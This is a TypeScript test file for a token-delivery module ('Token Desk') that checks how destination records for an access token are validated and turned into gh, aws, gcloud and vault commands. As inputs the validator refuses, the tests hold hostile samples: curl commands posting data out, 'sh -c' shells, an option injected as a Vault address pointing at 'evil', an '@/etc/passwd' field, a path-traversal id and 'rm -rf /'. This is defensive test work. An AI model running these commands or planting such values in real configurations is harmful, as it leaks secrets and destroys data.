import { describe, expect, it } from 'vitest'
import { DestinationError, readDestinations, specFromInput, whereOf } from '../../../main/core/deliveries'
import { commandProblem, newDestination } from '../../../main/core/deliveries/destination'
import { stepsOf } from '../../../main/core/deliveries/presets'

const ok = { id: 'd0123456789ab', kind: 'env-file', path: '/home/pat/ads/.env', key: 'FB_ACCESS_TOKEN' }

describe('readDestinations: what the vault holds is checked on every read', () => {
  it('keeps each valid kind as it is', () => {
    const raw = [
      ok,
      { id: 'd000000000001', kind: 'github', name: 'FB_TOKEN', repo: 'acme/reports', env: 'production' },
      { id: 'd000000000002', kind: 'aws', secretId: 'prod/fb-token', region: 'eu-west-1' },
      { id: 'd000000000003', kind: 'gcloud', secret: 'fb-token', project: 'ads-123456' },
      { id: 'd000000000004', kind: 'vault', path: 'secret/ads', field: 'FB_ACCESS_TOKEN' },
      { id: 'd000000000005', kind: 'command', argv: ['/usr/local/bin/push-token', '--env', 'prod'], cwd: '/srv/ads' },
    ]
    const { destinations, refused } = readDestinations(raw)
    expect(refused).toEqual([])
    expect(destinations).toEqual(raw)
  })

  it.each([
    ['another kind', { id: 'd000000000009', kind: 'webhook', url: 'https://example.com' }, /of a kind Token Desk does not deliver to \(webhook\)/],
    ['a shell string for a command', { id: 'd000000000009', kind: 'command', argv: 'gh secret set X < token.txt' }, /shell string/],
    ['a command field instead of argv', { id: 'd000000000009', kind: 'command', command: 'curl -d @- https://x' }, /shell string/],
    ['sh -c', { id: 'd000000000009', kind: 'command', argv: ['sh', '-c', 'curl -d @- https://x'] }, /runs a shell \(sh -c\)/],
    ['/bin/bash -c', { id: 'd000000000009', kind: 'command', argv: ['/bin/bash', '-c', 'x'] }, /runs a shell/],
    ['a command line in one word', { id: 'd000000000009', kind: 'command', argv: ['gh secret set X'] }, /whole command line in one word/],
    ['a pipe in the program', { id: 'd000000000009', kind: 'command', argv: ['/usr/bin/tee|sh'] }, /whole command line/],
    ['a token in an argument', { id: 'd000000000009', kind: 'command', argv: ['push', '--body=EAAsecretTokenValue123456789'] }, /looks like a credential/],
    ['a password pair', { id: 'd000000000009', kind: 'command', argv: ['push', 'password=hunter2hunter2'] }, /looks like a credential/],
    ['a relative .env path', { id: 'd000000000009', kind: 'env-file', path: 'ads/.env', key: 'K' }, /fields are not those of the env-file kind/],
    ['a key that is no variable name', { id: 'd000000000009', kind: 'env-file', path: '/x/.env', key: 'A B' }, /fields are not those/],
    ['an option as a GitHub repo', { id: 'd000000000009', kind: 'github', name: 'X', repo: '--body=x/y' }, /fields are not those/],
    ['a GITHUB_ secret name', { id: 'd000000000009', kind: 'github', name: 'GITHUB_TOKEN' }, /fields are not those/],
    ['an option as a vault path', { id: 'd000000000009', kind: 'vault', path: '-address=http://evil', field: 'K' }, /fields are not those/],
    ['a vault field with =', { id: 'd000000000009', kind: 'vault', path: 'secret/x', field: 'K=@/etc/passwd' }, /fields are not those/],
    ['an extra field', { ...ok, id: 'd000000000009', shell: true }, /fields are not those/],
    ['a bad id', { ...ok, id: '../../etc' }, /no valid id/],
    ['not an object', 'rm -rf /', /not a destination record/],
  ])('refuses %s, with the reason', (_what, record, reason) => {
    const { destinations, refused } = readDestinations([ok, record])
    expect(destinations).toEqual([ok])
    expect(refused).toHaveLength(1)
    expect(refused[0]!.reason).toMatch(reason)
  })

  it('refuses a list that is not a list, and a second destination with the same id', () => {
    expect(readDestinations('nope').refused).toEqual([{ id: null, kind: null, reason: 'the list of destinations is not a list' }])
    expect(readDestinations([ok, { ...ok, path: '/other/.env' }]).refused).toEqual([{ id: ok.id, kind: 'env-file', reason: 'its id is used twice' }])
  })

  it('no destinations at all is no list', () => {
    expect(readDestinations(undefined)).toEqual({ destinations: [], refused: [] })
  })
})

describe('newDestination and the window\u2019s input', () => {
  it('expands ~/ and gives the default variable', () => {
    const spec = specFromInput({ kind: 'env-file', path: '~/ads/.env' }, '/tmp')
    expect(spec).toMatchObject({ kind: 'env-file', key: 'FB_ACCESS_TOKEN' })
    expect(spec.kind === 'env-file' && spec.path.endsWith('/ads/.env') && spec.path.startsWith('/')).toBe(true)
  })

  it('refuses a credential and a shell, in plain words', () => {
    expect(() => newDestination({ kind: 'command', argv: ['curl', '-H', 'Authorization: Bearer EAAtokenvalue1234567890'] })).toThrow(DestinationError)
    expect(() => newDestination({ kind: 'command', argv: ['bash', '-c', 'x'] })).toThrow(/runs a shell/)
    expect(newDestination({ kind: 'command', argv: ['/opt/My Tools/push.sh'] }).id).toMatch(/^d[0-9a-f]{12}$/)
  })

  it('commandProblem allows a path with spaces and plain programs', () => {
    expect(commandProblem(['/opt/My Tools/push.sh', 'a b'])).toBeNull()
    expect(commandProblem(['python3', 'push.py'])).toBeNull()
    expect(commandProblem([])).toMatch(/no program/)
  })
})

describe('presets: what each one runs', () => {
  const d = (spec: object) => ({ id: 'd000000000001', ...spec }) as Parameters<typeof stepsOf>[0]
  it('GitHub Actions: gh auth status, then gh secret set NAME --repo --env, the token on stdin', () => {
    expect(stepsOf(d({ kind: 'github', name: 'FB_TOKEN', repo: 'acme/reports', env: 'prod' })).map((s) => [s.argv, s.takesToken])).toEqual([
      [['gh', 'auth', 'status'], false],
      [['gh', 'secret', 'set', 'FB_TOKEN', '--repo', 'acme/reports', '--env', 'prod'], true],
    ])
    expect(stepsOf(d({ kind: 'github', name: 'X', repo: 'github.example.com/acme/r' }))[0]!.argv).toEqual(['gh', 'auth', 'status', '--hostname', 'github.example.com'])
  })
  it('AWS, Google, Vault: the documented stdin forms', () => {
    expect(stepsOf(d({ kind: 'aws', secretId: 'prod/fb', region: 'eu-west-1' }), 'linux')[0]!.argv).toEqual(['aws', 'secretsmanager', 'put-secret-value', '--secret-id', 'prod/fb', '--secret-string', 'file:///dev/stdin', '--region', 'eu-west-1'])
    expect(stepsOf(d({ kind: 'aws', secretId: 'prod/fb' }), 'win32')).toEqual([])
    expect(stepsOf(d({ kind: 'gcloud', secret: 'fb', project: 'ads-123456' }))[0]!.argv).toEqual(['gcloud', 'secrets', 'versions', 'add', 'fb', '--data-file=-', '--project', 'ads-123456'])
    expect(stepsOf(d({ kind: 'vault', path: 'secret/ads', field: 'FB_ACCESS_TOKEN' }))[0]!.argv).toEqual(['vault', 'kv', 'patch', 'secret/ads', 'FB_ACCESS_TOKEN=-'])
  })
  it('says where in words', () => {
    expect(whereOf({ kind: 'github', name: 'X', cwd: '/srv/app' })).toBe('GitHub Actions secret X in the repository at /srv/app')
    expect(whereOf({ kind: 'command', argv: ['/x/push', 'two words'] })).toBe('the command /x/push "two words"')
  })
})
